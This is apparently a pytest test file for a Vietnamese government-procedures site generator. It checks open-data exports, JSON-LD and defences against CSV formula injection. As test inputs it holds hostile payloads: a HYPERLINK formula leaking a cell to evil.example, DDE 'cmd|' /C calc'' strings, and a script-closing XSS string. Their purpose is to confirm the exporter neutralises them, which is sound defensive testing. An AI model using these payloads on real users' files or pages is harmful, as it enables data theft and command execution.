"""Open data and machine-readable pages: exports round-trip, CSV opens in spreadsheets, JSON-LD
matches the content."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator import model as m
from generator.content import Content, load_content
from generator.facts import Facts
from generator.outputs.jsonld import commune_ld, json_ld, procedure_ld
from generator.outputs.opendata import (
    fees_csv,
    procedures_csv,
    procedures_json,
    spreadsheet_text,
    stats_csv,
    write_open_data,
)

from .helpers import AGENCIES, FEE, FIELDS, PROCEDURE, TODAY, build, write_tree
from .test_build import read

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture(scope="module")
def demo() -> Content:
    content, problems = load_content(ROOT / "content", TODAY)
    assert content is not None, problems
    return content


def test_procedures_json_round_trips(demo: Content) -> None:
    data = json.loads(procedures_json(demo))
    assert "CC BY 4.0" in data["licence"]
    records = data["procedures"]
    assert len(records) == len(demo.procedures)
    for record, original in zip(records, demo.procedures, strict=True):
        url = record.pop("url")
        assert url.endswith(f"/thu-tuc/{original.code}/")
        assert m.Procedure.model_validate_json(json.dumps(record)) == original


def test_csv_opens_in_spreadsheets(demo: Content) -> None:
    raw = procedures_csv(demo, Facts(demo))
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads it as UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Mã thủ tục", "Tên thủ tục", "Lĩnh vực"]
    assert len(rows) == len(demo.procedures) + 1
    birth = next(r for r in rows if r[0] == "1.001193")
    assert birth[1] == "Đăng ký khai sinh" and birth[2] == "Hộ tịch"
    fees = list(csv.reader(io.StringIO(fees_csv(demo).decode("utf-8-sig"))))
    assert sum(1 for r in fees if r[0] == "phi-chung-thuc-hop-dong") == 2  # old and current schedules


def test_procedure_json_ld_matches_the_content(demo: Content) -> None:
    p = next(x for x in demo.procedures if x.code == "2.000815")
    ld = procedure_ld(demo, p)
    assert ld["@type"] == "GovernmentService" and ld["identifier"] == "2.000815" and ld["name"] == p.name
    assert ld["provider"][0]["name"] == demo.agencies[m.agency_ids(p.agencies.executing)[0]].name
    # Same-day and working-day times have no honest ISO 8601 duration (no `P0D`, no `P5D`).
    assert ld["availableChannel"][0] == {"@type": "ServiceChannel", "name": "Trực tiếp"}
    assert ld["offers"][0]["price"] == 2000 and ld["offers"][0]["priceCurrency"] == "VND"


def test_commune_json_ld_has_opening_hours(demo: Content) -> None:
    commune = next(c for c in demo.communes if c.id == "xa-vu-ninh")
    ld = commune_ld(demo, commune)
    assert ld["@type"] == "GovernmentOffice"
    first = ld["openingHoursSpecification"][0]
    assert first["opens"] == "07:00" and first["closes"] == "11:30"
    assert "https://schema.org/Monday" in first["dayOfWeek"]


def test_json_ld_cannot_close_its_script() -> None:
    assert "</script>" not in json_ld({"name": "</script><script>alert(1)</script>"})
    assert json.loads(json_ld({"name": "a<b>&c"})) == {"name": "a<b>&c"}


def test_built_site_has_open_data_json_ld_and_robots(tmp_path: Path) -> None:
    out = tmp_path / "site"
    assert (
        build(
            write_tree(tmp_path / "content", {"procedures/1.001193-dang-ky-khai-sinh.yaml": PROCEDURE}), out
        ).returncode
        == 0
    )
    for name in ("procedures.json", "procedures.csv", "fees.csv", "communes.json"):
        assert (out / "data" / name).is_file()
    assert "Sitemap: https://example.gov.vn/sitemap.xml" in read(out, "robots.txt")
    html = read(out, "thu-tuc/1.001193/index.html")
    (block,) = re.findall(r'<script type="application/ld\+json">(.*?)</script>', html)
    assert json.loads(block)["identifier"] == "1.001193"
    assert "Dữ liệu mở" in read(out, "du-lieu-mo/index.html")


def test_results_of_dossier_handling(demo: Content) -> None:
    import xml.etree.ElementTree as ET

    from generator.facts import Facts
    from generator.outputs.opendata import stats_csv
    from generator.render import environment, render
    from generator.views.results import results_page

    seed = next(s for s in demo.stats if s.period == "2018-Q1")
    assert (seed.totals.received, seed.totals.resolved, seed.totals.pending) == (1932, 1745, 187)
    page = results_page(Facts(demo))
    first = page.quarters[0]
    assert (first.label, first.resolved_rate) == ("Quý I/2018", "90,3 %")
    html = render(environment(), "results.html", page, "ket-qua-giai-quyet/")
    for c in page.charts:
        svg = re.search(rf'<svg role="img" aria-labelledby="{c.id}-title {c.id}-desc".*?</svg>', html, re.S)
        assert svg is not None
        tree = ET.fromstring(svg.group(0))
        ns = {"s": "http://www.w3.org/2000/svg"}
        assert tree.findtext("s:title", namespaces=ns) == c.title
        values = [float(g.get("data-value", "nan")) for g in tree.iter("{http://www.w3.org/2000/svg}g")]
        assert values == [b.value for b in c.bars]
        # the table beside the chart shows the same figures
        table = html[svg.end() : html.index("</table>", svg.end())]
        assert re.findall(r"<td>(.*?)</td>", table) == [b.text for b in c.bars]
    on_time = page.charts[0]
    assert on_time.bars[0].text == first.on_time_rate
    rows = list(csv.reader(io.StringIO(stats_csv(demo).decode("utf-8-sig"))))
    assert rows[0][:2] == ["Kỳ", "Phạm vi"]
    assert ["2018-Q1", "huyện Kiến Xương"] == rows[1][:2] and rows[1][3] == "1836"


# What a spreadsheet reads as the start of a formula (OWASP "CSV injection"), full-width forms too.
FORMULA = set("=+-@\t\r\n＝＋－＠")


def _cells(raw: bytes) -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell[:1] in FORMULA or cell.lstrip(" \u00a0")[:1] in FORMULA]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")',
            '\'=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")',
        ),
        ("+84 227 3821 000", "'+84 227 3821 000"),
        ("-", "'-"),
        ("-5", "'-5"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ("＝1+1", "'＝1+1"),
        ("=\x001", "'=1"),
        ("Đăng\x00 ký", "Đăng ký"),
        ("Đăng ký khai sinh", "Đăng ký khai sinh"),
        ("2.000 đồng; 1+1 = 2", "2.000 đồng; 1+1 = 2"),
        ("", ""),
    ],
)
def test_spreadsheet_text(value: str, cell: str) -> None:
    assert spreadsheet_text(value) == cell


@given(st.text())
def test_no_cell_can_start_a_formula(value: str) -> None:
    cell = spreadsheet_text(value)
    assert _formula_cells([[cell]]) == []
    assert cell in (value.replace("\x00", ""), "'" + value.replace("\x00", ""))


def test_hostile_names_reach_the_csv_files_as_text(tmp_path: Path) -> None:
    hyperlink = '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")'
    tree = write_tree(
        tmp_path,
        {
            "procedures/1.001193-dang-ky-khai-sinh.yaml": PROCEDURE.replace(
                "name: Đăng ký khai sinh", f"name: '{hyperlink}'"
            ).replace("field: ho-tich", "field: ho-tich\ndecision: \"-2+3+cmd|' /C calc'!A0\""),
            "fees/phi-chung-thuc-ban-sao.yaml": FEE.replace(
                "name: Phí chứng thực bản sao từ bản chính", "name: \"+1+cmd|' /C calc'!A0\""
            ).replace("set_by: Bộ Tài chính", "set_by: \"@SUM(1+1)*cmd|' /C calc'!A0\""),
            "fields.yaml": FIELDS.replace("name: Hộ tịch", 'name: "-Hộ tịch"'),
            "agencies.yaml": AGENCIES.replace("name: UBND cấp xã", 'name: "=1+1"'),
        },
    )
    content, problems = load_content(tree, TODAY)
    assert content is not None, problems
    procedures, fees, stats = (
        _cells(procedures_csv(content, Facts(content))),
        _cells(fees_csv(content)),
        _cells(stats_csv(content)),
    )
    for rows in (procedures, fees, stats):
        assert _formula_cells(rows) == []
    assert procedures[1][1] == "'" + hyperlink
    assert procedures[1][2] == "'-Hộ tịch" and procedures[1][4] == "'=1+1"
    assert procedures[1][8] == "'-2+3+cmd|' /C calc'!A0"
    assert fees[1][1] == "'+1+cmd|' /C calc'!A0" and fees[1][9] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert "Lĩnh vực -Hộ tịch" in [row[1] for row in stats]  # not at the start: left as it is


def test_demo_csv_files_have_no_formula_cells(demo: Content, tmp_path: Path) -> None:
    names = write_open_data(demo, Facts(demo), tmp_path)
    csv_files = [name for name in names if name.endswith(".csv")]
    assert sorted(csv_files) == ["fees.csv", "procedures.csv", "stats.csv"]
    for name in csv_files:
        rows = _cells((tmp_path / "data" / name).read_bytes())
        assert len(rows) > 1
        assert _formula_cells(rows) == [], name
